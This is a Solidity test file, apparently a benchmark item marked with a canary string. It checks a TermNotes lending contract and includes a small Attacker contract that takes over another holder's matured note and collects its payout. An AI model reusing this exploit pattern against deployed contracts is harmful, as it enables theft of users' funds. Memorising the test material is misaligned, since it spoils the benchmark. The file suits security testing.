pragma solidity 0.4.26;

import "./TermNotes.sol";

// assay-canary-6de6cad5-6837-43cf-bcb5-c54e683af6b9

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BANK = address(0xBA);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1500000000;

    TermNotes private notes;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        notes = new TermNotes();
        vm.deal(BANK, 1 ether);
        vm.prank(BANK);
        notes.fund.value(0.5 ether)();
        vm.deal(ANA, 20 ether);
        vm.prank(ANA);
        notes.issue.value(10 ether)();
        mallory = new Attacker(notes);
    }

    function test_Regular() public {
        require(notes.reserve() == 0.3 ether && notes.count() == 1, "set up");
        vm.startPrank(ANA);
        uint256 second = notes.issue.value(5 ether)();
        uint256 third = notes.issue.value(5 ether)();
        require(notes.reserve() == 0.1 ether && third == 2, "issued");
        notes.redeem(second);
        require(ANA.balance == 5 ether && notes.reserve() == 0.2 ether, "redeemed");
        notes.assign(third, BEN);
        vm.stopPrank();
        vm.warp(START + 90 days);
        notes.pay(0);
        notes.pay(third);
        require(ANA.balance == 15.2 ether && BEN.balance == 5.1 ether, "paid");
        require(address(notes).balance == 0.2 ether, "the reserve is left");
    }

    function test_RefusesNotes() public {
        vm.startPrank(ANA);
        vm.expectRevert("no amount");
        notes.issue.value(0)();
        notes.issue.value(9 ether)();
        vm.stopPrank();
        vm.deal(BEN, 10 ether);
        vm.prank(BEN);
        vm.expectRevert("reserve too small");
        notes.issue.value(7 ether)();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("not holder");
        notes.assign(0, BEN);
        vm.expectRevert("not holder");
        notes.redeem(0);
        vm.expectRevert("not mature");
        notes.pay(0);
        vm.expectRevert("no note");
        notes.assign(1, BEN);
        vm.expectRevert("no note");
        notes.pay(1);
        vm.stopPrank();
    }

    function test_RefusesHolders() public {
        vm.startPrank(ANA);
        vm.expectRevert("no account");
        notes.assign(0, address(0));
        vm.warp(START + 90 days);
        vm.expectRevert("mature");
        notes.redeem(0);
        notes.pay(0);
        vm.expectRevert("no note");
        notes.pay(0);
        vm.stopPrank();
    }

    function exploit() public {
        vm.warp(START + 90 days);
        mallory.run(0);
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 10 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(notes);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    TermNotes private notes;

    constructor(TermNotes _notes) public {
        notes = _notes;
    }

    function run(uint256 _id) external {
        notes.assign(_id, address(this));
        notes.pay(_id);
    }

    function () external payable {}
}
